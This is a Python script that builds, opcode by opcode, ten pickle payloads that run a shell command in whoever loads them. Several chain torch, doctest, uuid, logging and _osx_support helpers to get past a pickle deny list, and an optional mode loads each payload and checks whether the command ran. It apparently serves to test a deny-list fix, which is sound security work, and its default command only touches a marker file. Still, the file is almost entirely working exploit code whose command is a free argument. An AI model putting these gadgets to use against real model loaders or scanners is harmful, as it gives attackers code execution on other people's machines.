#!/usr/bin/env python3
"""Pickles that run `touch MARKER` in whoever loads them, through globals a deny list does not name (issue #41).

  pickle_gadgets.py MARKER        # JSON lines: {"name", "value" (hex)}; nothing is loaded
  pickle_gadgets.py MARKER --load # also loads each (in this process: a torch venv) and says whether MARKER appeared

The gadget classes an attacker used against the deny list: a call on a call's result
(torch._utils._import_dotted_name), code from source (torch.fx.graph_module._exec_with_source, doctest.debug_script),
a shell through a helper (torch.utils.collect_env.run, uuid._get_command_stdout, _osx_support._read_output), an
attribute walk (_operator.attrgetter over the module torch.serialization reached as torch's attribute), a factory
by name (logging.config.dictConfig's "()"), and a torch.save stream made at load time
(torch.storage._load_from_bytes(base64.b64decode(str))). Plus the os.system control the deny list always stopped.
Each is written by hand, opcode by opcode (protocol 4), so that nothing of it is run to make it.
"""
import argparse
import base64
import io
import json
import os
import pickle
import struct
import sys


class System:
    """An object whose pickle calls os.system(cmd): the control every deny list stopped."""

    def __init__(self, cmd):
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


def s(text):  # a str: SHORT_BINUNICODE or BINUNICODE
    b = text.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def g(module, name):  # STACK_GLOBAL
    return s(module) + s(name) + b"\x93"


def call(fn, *args):  # fn(*args): the callable's opcodes, a MARK-ed tuple of the arguments, REDUCE
    return fn + b"(" + b"".join(args) + b"tR"


def pk(body):
    return b"\x80\x04" + body + b"."


def gadgets(marker):
    cmd = f"touch {marker}"
    # A legacy torch.save stream: torch's magic number, then a pickle of os.system where its protocol version goes.
    legacy = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19." + \
        b"\x80\x02cposix\nsystem\n(X" + struct.pack("<I", len(cmd)) + cmd.encode() + b"tR."
    return {
        "control_os_system": pk(call(g("os", "system"), s(cmd))),
        "import_dotted_name_then_call": pk(call(call(g("torch._utils", "_import_dotted_name"), s("os.system")), s(cmd))),
        "fx_exec_with_source": pk(call(g("torch.fx.graph_module", "_exec_with_source"),
                                       s(f"import os\nos.system({cmd!r})\n"), b"}")),
        "collect_env_run": pk(call(g("torch.utils.collect_env", "run"), s(cmd))),
        "attrgetter_over_torch_serialization": pk(call(call(g("_operator", "attrgetter"), s("os.system")),
                                                       g("torch", "serialization")) + b"(" + s(cmd) + b"tR"),
        "logging_dictconfig_factory": pk(call(g("logging.config", "dictConfig"),
                                              b"}(" + s("version") + b"K\x01" + s("filters") + b"}(" + s("f") + b"}(" +
                                              s("()") + s("os.system") + s("command") + s(cmd) + b"u" + b"u" + b"u")),
        "doctest_debug_script": pk(call(g("doctest", "debug_script"), s(f"import os; os.system({cmd!r})"))),
        "uuid_get_command_stdout": pk(call(g("uuid", "_get_command_stdout"), s("touch"), s(marker))),
        "osx_support_read_output": pk(call(g("_osx_support", "_read_output"), s(cmd))),
        "load_from_bytes_of_b64decode": pk(call(g("torch.storage", "_load_from_bytes"),
                                                call(g("base64", "b64decode"), s(base64.b64encode(legacy).decode())))),
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("marker")
    ap.add_argument("--load", action="store_true")
    a = ap.parse_args()
    for name, value in gadgets(a.marker).items():
        rec = {"name": name, "value": value.hex()}
        if a.load:
            try:
                os.unlink(a.marker)
            except FileNotFoundError:
                pass
            # doctest.debug_script runs the source under pdb: tell it to go on, and keep its prompt off stdout.
            out, sys.stdin, sys.stdout = sys.stdout, io.StringIO("continue\n" * 4), io.StringIO()
            try:
                pickle.loads(value)
            except BaseException as e:  # noqa: what the load raised after (or before) running the command
                rec["raised"] = repr(e)[:200]
            finally:
                sys.stdout = out
            rec["ran"] = os.path.exists(a.marker)
        print(json.dumps(rec), flush=True)


if __name__ == "__main__":
    sys.exit(main())
